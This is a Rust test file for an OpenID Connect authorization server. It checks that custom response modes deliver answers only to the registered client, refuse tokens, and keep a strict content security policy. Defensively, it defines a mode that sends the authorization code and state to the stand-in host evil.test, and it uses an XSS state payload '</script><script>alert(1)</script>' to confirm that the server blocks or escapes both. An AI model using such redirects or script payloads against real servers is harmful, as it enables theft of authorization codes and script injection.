//! Response modes that a program adds: how an answer travels is the program's, where it goes is not.

use hallpass_core::{
    authorize::{AuthorizationResponse, OwnMode, ResponseType, Travel},
    fapi::Profile,
};
use hallpass_testkit::{Answer, Op, Request, Setup, fixture, wire};
use serde_json::json;

use crate::front_channel::{CB, TYPES, redeem, request, seed};

/// For applications whose router is in the fragment: the answer behind the path there.
fn hash_route(answer: &AuthorizationResponse) -> Travel {
    let (to, answer) = (&answer.redirect_uri, answer.encoded());
    Travel::Redirect(format!("{to}#/signed-in?{answer}"))
}

const SCRIPT: &str = "document.title=document.querySelector('script[type]').text";

/// For programs that read the title of a window.
fn title(answer: &AuthorizationResponse) -> Travel {
    let data = answer.to_json();
    Travel::Page {
        html: format!("<script type=application/json>{data}</script><script>{SCRIPT}</script>"),
        scripts: vec![SCRIPT],
    }
}

fn elsewhere(answer: &AuthorizationResponse) -> Travel {
    Travel::Redirect(format!("https://evil.test/?{}", answer.encoded()))
}

async fn started() -> Op {
    let all = json!(["hash_route", "title", "elsewhere", "query", "fragment"]);
    Setup::default()
        .policy(|policy| {
            policy.response_types = ResponseType::ALL.to_vec();
            policy.jarm = true;
            policy.requests.modes = vec![
                OwnMode::new("hash_route", hash_route),
                OwnMode::new("title", title),
                OwnMode::new("elsewhere", elsewhere),
                OwnMode::new("query", elsewhere),
                OwnMode::new("own.jwt", elsewhere),
                OwnMode::new("No Name", elsewhere),
            ];
        })
        .client(seed("hyb", json!({})))
        .client(seed("own", json!({"response_modes": all})))
        .start()
        .await
}

fn asking(client: &str, response_type: &str, mode: &str) -> Request {
    request(client, response_type, "openid").with("response_mode", mode)
}

#[tokio::test]
async fn an_answer_travels_as_the_program_wants_and_says_what_every_answer_says() {
    let op = started().await;
    let mut browser = op.browser();
    browser.sign_in("alice").await;
    let document = browser
        .get("/.well-known/openid-configuration")
        .await
        .json();
    let offered = document["response_modes_supported"]
        .as_array()
        .unwrap()
        .clone();
    for name in ["hash_route", "title"] {
        assert!(offered.contains(&json!(name)), "{name}");
    }
    for name in ["own.jwt", "No Name"] {
        assert!(!offered.contains(&json!(name)), "{name}");
    }
    assert_eq!(offered.iter().filter(|name| **name == "query").count(), 1);

    let answer = browser
        .send(asking("own", "code", "hash_route").get())
        .await;
    let rest = answer.location().strip_prefix(CB).unwrap();
    let query = rest.strip_prefix("#/signed-in?").unwrap();
    let param = |name| wire::param(&format!("?{query}"), name);
    assert_eq!(param("iss").as_deref(), Some(fixture::ISSUER));
    assert_eq!(param("state").as_deref(), Some("the-state"));
    let code = param("code").unwrap();
    assert_eq!(redeem(&mut browser, "own", &code).await.status, 200);

    // AZ-08
    let state = "</script><script>alert(1)</script>";
    let asked = asking("own", "code", "title").with("state", state);
    let answer = browser.send(asked.get()).await;
    let csp = answer.header("content-security-policy").unwrap().to_owned();
    assert!(
        csp.starts_with(
            "default-src 'none'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'"
        ),
        "{csp}"
    );
    assert!(
        csp.contains("form-action https://hyb.test; script-src 'sha256-"),
        "{csp}"
    );
    assert_eq!(answer.header("cache-control"), Some("no-store"));
    let page = answer.text();
    assert_eq!(page.matches("</script>").count(), 2, "{page}");
    let (_, data) = page.split_once("json>").unwrap();
    let (data, _) = data.split_once("</script>").unwrap();
    let data: serde_json::Value = serde_json::from_str(data).unwrap();
    assert_eq!(data["state"], state);
    let code = data["code"].as_str().unwrap();
    assert_eq!(redeem(&mut browser, "own", code).await.status, 200);
}

#[tokio::test]
async fn who_waits_for_the_person_gets_the_answer_in_the_mode_that_was_asked_for() {
    let op = started().await;
    let mut browser = op.browser();
    // Sealed into the addresses of pages meanwhile.
    let asked = asking("own", "code", "hash_route");
    let page = browser.send(asked.get()).await;
    let answer = browser.through_pages("alice", page).await;
    assert!(
        answer
            .location()
            .starts_with(&format!("{CB}#/signed-in?code=")),
        "{}",
        answer.location()
    );
    let silent = asking("own", "code", "hash_route").with("prompt", "none");
    let answer = op.browser().send(silent.get()).await;
    let start = format!("{CB}#/signed-in?error=login_required");
    assert!(
        answer.location().starts_with(&start),
        "{}",
        answer.location()
    );
}

// AZ-08
#[tokio::test]
async fn a_mode_of_the_program_is_for_clients_that_registered_it() {
    let op = started().await;
    let mut browser = op.browser();
    browser.sign_in("alice").await;
    for mode in ["hash_route", "title", "unknown", "own.jwt", "No Name"] {
        let answer = browser.send(asking("hyb", "code", mode).get()).await;
        let start = format!("{CB}?error=invalid_request");
        assert!(
            answer.location().starts_with(&start),
            "{mode}: {}",
            answer.location()
        );
    }
}

// AZ-08
#[tokio::test]
async fn no_token_travels_in_a_mode_of_the_program() {
    let op = started().await;
    let mut browser = op.browser();
    browser.sign_in("alice").await;
    for response_type in &TYPES[1..6] {
        for mode in ["hash_route", "title"] {
            let answer = browser.send(asking("own", response_type, mode).get()).await;
            let start = format!("{CB}#error=invalid_request");
            assert!(
                answer.location().starts_with(&start),
                "{}",
                answer.location()
            );
        }
    }
}

#[tokio::test]
async fn an_answer_goes_nowhere_but_to_the_client() {
    let op = started().await;
    let mut browser = op.browser();
    browser.sign_in("alice").await;
    let ask = browser.with_cookies(asking("own", "code", "elsewhere").get());
    let answer = Answer::parse(&wire::exchange(op.address(), &ask.to_bytes()).await);
    assert_eq!((answer.status, answer.header("location")), (500, None));
    assert!(!answer.text().contains("evil.test"));
    // A name of the protocol stays what it is.
    let answer = browser.send(asking("own", "code", "query").get()).await;
    assert!(answer.location().starts_with(&format!("{CB}?code=")));
}

#[tokio::test]
async fn a_profile_knows_the_modes_of_its_specification_alone() {
    for profile in [
        Profile::Fapi2Security,
        Profile::Fapi2MessageSigning,
        Profile::Fapi1Advanced,
    ] {
        let own = hallpass_core::authorize::OwnModeName::parse("own").unwrap();
        let mode = hallpass_core::authorize::ResponseMode::Own(own);
        assert!(!profile.answers(ResponseType::Code, mode), "{profile:?}");
    }
}
